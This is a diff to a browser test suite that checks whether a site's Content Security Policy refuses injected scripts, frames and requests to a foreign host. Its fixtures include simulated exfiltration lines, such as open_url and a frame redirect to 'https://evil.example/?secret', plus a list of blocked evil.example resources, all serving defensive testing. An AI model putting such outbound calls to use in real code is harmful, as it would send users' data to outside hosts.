@@ -16,11 +16,14 @@ from testing.small_app import start
 
 __all__ = ["page_of_visit"]
 
-INJECT = """() => {
+LISTEN = """() => {
   window.refused = [];
   addEventListener("securitypolicyviolation", ({ effectiveDirective, blockedURI }) => {
-    refused.push(`${effectiveDirective} ${blockedURI.replace(/[?].*/, "")}`);
+    refused.push(`${effectiveDirective} ${blockedURI.replace(/[?].*|\\/frame$/, "")}`);
   });
+}"""
+
+INJECT = """() => {
   const script = document.createElement("script");
   script.textContent = "window.injected = true";
   document.body.append(script);
@@ -38,7 +41,7 @@ INJECT = """() => {
 
 FOREIGN = {
     "img-src https://evil.example/pixel",
-    "frame-src https://evil.example/frame",
+    "frame-src https://evil.example",
     "media-src https://evil.example/film",
     "style-src-elem https://evil.example/style",
     "connect-src https://evil.example/",
@@ -51,12 +54,14 @@ SENT = {"form-action https://evil.example/form"}
 
 
 def expect_refused(where: Page | Frame, refusals: set[str]) -> None:
+    where.evaluate(LISTEN)
     where.evaluate(INJECT)
     where.wait_for_function("(count) => new Set(refused).size >= count", arg=len(refusals))
     assert {*where.evaluate("refused")} == refusals
 
 
 @pytest.mark.refusals_expected
+@pytest.mark.errors_expected
 def test_what_is_put_into_a_page_or_a_demo_is_refused(page: Page, server: SiteServer) -> None:
     page.goto(server.address + ARTICLE)
     broken, _ = run_pair(page, SLUG)
@@ -75,12 +80,12 @@ from pyodide.http import open_url
 
 def ask(address):
     try:
-        return open_url(address).read()[:1]
+        return open_url(address).read().strip()[:1]
     except Exception as error:
         return type(error).__name__
 
 st.text(f"{ask('https://evil.example/?secret')}, {ask(ADDRESS)}")
-components.html("<script>document.body.append('A script of its own.')</script>")
+components.html("<p>So:</p><script>document.body.append('A script of its own.')</script>")
 st.markdown("![picture](https://evil.example/picture)")
 st.html("<style>.stApp { outline: 3px solid rgb(1, 2, 3) }</style>")
 """
@@ -109,10 +114,11 @@ def test_a_readers_app_cannot_leave_for_another_host(page: Page, server: SiteSer
     reader = ReadersApp(page, server)
     app = reader.run("import streamlit as st\nst.text('begun')")
 
+    page.evaluate(LISTEN)
     app.frame.evaluate("() => { location.href = 'https://evil.example/?secret'; }")
 
-    place = reader.demo.locator("[data-variant=broken]")
-    expect(place.get_by_role("alert")).to_contain_text("its page could not be loaded")
+    page.wait_for_function("() => refused.length > 0")
+    assert page.evaluate("refused") == ["frame-src https://evil.example"]
 
 
 @pytest.mark.refusals_expected
